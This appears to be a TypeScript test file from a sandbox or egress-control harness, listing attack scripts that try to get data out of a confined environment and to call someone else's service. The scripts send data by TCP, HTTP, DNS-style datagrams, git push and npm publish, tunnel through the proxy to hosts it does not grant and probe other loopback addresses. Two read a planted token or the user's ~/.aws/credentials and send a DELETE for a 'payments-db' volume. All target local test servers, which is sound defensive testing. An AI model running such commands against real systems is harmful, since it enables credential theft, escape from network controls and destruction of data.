import { onHost } from "../arena/on-host.ts";
import type { Attack } from "../attack.ts";

const node = (program: string): string => `node -e '${program}'`;
const connect = (words: string): string =>
  node(
    `require("net").connect(${words}).on("error",()=>{}).on("data",(d)=>console.log(String(d))).end("GET /?data HTTP/1.1\\r\\n\\r\\n")`,
  );
/** Asks the proxy for a tunnel where there is one, and goes straight there where not. */
const tunnel = (host: string): string =>
  node(`const net=require("net"),port=process.env.TCP,proxy=process.env.HTTPS_PROXY;
const say=(s)=>s.end("GET /?data HTTP/1.1\\r\\n\\r\\n");
const s=proxy?net.connect(new URL(proxy).port,"127.0.0.1",()=>s.write("CONNECT ${host}:"+port+" HTTP/1.1\\r\\n\\r\\n")):net.connect(port,"${host}",()=>say(s));
s.on("error",()=>{}).on("data",(d)=>{console.log(String(d));if(proxy&&/ 200 /.test(String(d)))say(s)})`);

/** T13 and P: ways for data to leave, and for orders to reach somebody else's service. */
export const networkAttacks: readonly Attack[] = [
  onHost({
    id: "T13-tcp",
    row: "T13",
    title: "connects to a port of the machine",
    script: connect(`process.env.TCP,"127.0.0.1"`),
  }),
  onHost({
    id: "T13-http",
    row: "T13",
    title: "sends a file away by HTTP",
    script: node(
      `fetch("http://127.0.0.1:"+process.env.TCP+"/",{method:"POST",body:"data"}).then((r)=>r.text()).then(console.log,()=>{})`,
    ),
  }),
  onHost({
    id: "T13-datagram",
    row: "T13",
    title: "sends data away in a datagram, as a look-up of names does",
    script:
      node(
        `const s=require("dgram").createSocket("udp4");s.send("data.evil.example",process.env.UDP,"127.0.0.1",()=>s.close())`,
      ) + "; sleep 0.1",
  }),
  onHost({
    id: "T13-resolver",
    row: "T13",
    title: "looks names up at a resolver of its own",
    script: node(
      `const {Resolver}=require("dns");const r=new Resolver({timeout:200,tries:1});r.setServers(["127.0.0.1:"+process.env.UDP]);r.resolve4("data.evil.example",()=>{})`,
    ),
  }),
  onHost({
    id: "T13-push",
    row: "T13",
    title: "pushes the repository to a server of its own",
    script: `git init -q r && cd r && git -c user.name=A -c user.email=a@b.c commit -q --allow-empty -m x && timeout 5 git push -q "http://127.0.0.1:$TCP/r.git" HEAD`,
  }),
  onHost({
    id: "T13-push-file",
    row: "T13",
    title: "pushes the repository to a folder of the machine",
    script: `git init -q r && cd r && git -c user.name=A -c user.email=a@b.c commit -q --allow-empty -m x; git init -q --bare "$OPEN/r.git" && git push -q "$OPEN/r.git" HEAD`,
  }),
  onHost({
    id: "T13-publish",
    row: "T13",
    title: "publishes a package to a registry of its own",
    files: { "package.json": `{ "name": "evil", "version": "1.0.0" }` },
    script: `echo "//127.0.0.1:$TCP/:_authToken=x" >.npmrc; timeout 10 npm publish --registry "http://127.0.0.1:$TCP/" --fetch-retries=0 >/dev/null 2>&1`,
  }),
  onHost({
    id: "T13-proxy-address",
    row: "T13",
    title: "asks the proxy for an address in the place of a name",
    script: tunnel("127.0.0.1"),
  }),
  onHost({
    id: "T13-proxy-name",
    row: "T13",
    title: "asks the proxy for a host that the spec does not grant",
    script: tunnel("localhost"),
  }),
  onHost({
    id: "T13-proxy-private",
    row: "T13",
    title: "asks the proxy for a granted name that leads to this machine",
    script: tunnel("localhost"),
    granted: ({ TCP = "" }) => ({ hosts: [`localhost:${TCP}`] }),
  }),
  onHost({
    id: "T13-proxy-plain",
    row: "T13",
    title: "asks the proxy for a plain page",
    script:
      node(`const http=require("http"),proxy=process.env.HTTP_PROXY,url="http://127.0.0.1:"+process.env.TCP+"/?data";
const at=proxy?{host:"127.0.0.1",port:new URL(proxy).port,path:url}:url;
http.get(at,(r)=>r.on("data",(d)=>console.log(String(d)))).on("error",()=>{})`),
  }),
  onHost({
    id: "T13-raw",
    row: "T13",
    title: "looks for a way past the loopback: other addresses of the machine",
    script: `for AT in 127.0.0.2 127.1.1.1 127.0.0.1; do export AT; ${connect("process.env.TCP,process.env.AT")}; done`,
  }),
  onHost({
    id: "P-call",
    row: "P",
    title: "finds a token and deletes a volume by the provider's API",
    files: { "config/reconciler.json": `{ "token": "cloud-token-of-somebody" }` },
    script: node(`const {token}=JSON.parse(require("fs").readFileSync("config/reconciler.json"));
fetch("http://127.0.0.1:"+process.env.TCP+"/volumes/payments-db",{method:"DELETE",headers:{authorization:token}}).catch(()=>{})`),
  }),
  onHost({
    id: "P-call-by-proxy",
    row: "P",
    title: "makes the same call through the proxy",
    files: { "config/reconciler.json": `{ "token": "cloud-token-of-somebody" }` },
    script: tunnel("localhost"),
  }),
  onHost({
    id: "P-home-token",
    row: "P",
    title: "uses the token in the user's home",
    script: `token=$(cat "$HOST_HOME/.aws/credentials") && curl -s -X DELETE -H "authorization: $token" "http://127.0.0.1:$TCP/volumes/payments-db"; echo "$token"`,
  }),
];
